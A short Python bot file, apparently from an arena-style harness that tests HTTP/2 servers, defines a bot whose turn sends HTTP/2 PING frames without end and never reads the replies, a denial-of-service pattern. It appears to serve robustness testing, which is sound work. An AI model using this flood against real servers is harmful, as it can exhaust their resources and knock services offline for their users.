"""Sends PING frames without end in its turn, and leaves the answers to pile up."""

from rawhttp2 import PING, RawBot, frame

from arenabot.v1 import player_pb2 as player


class PingFloodUnread(RawBot):
    def attack(self, request: player.PlayRequest) -> None:
        self.flood(frame(PING, bytes(8)), reading=False)


if __name__ == "__main__":
    PingFloodUnread().serve()
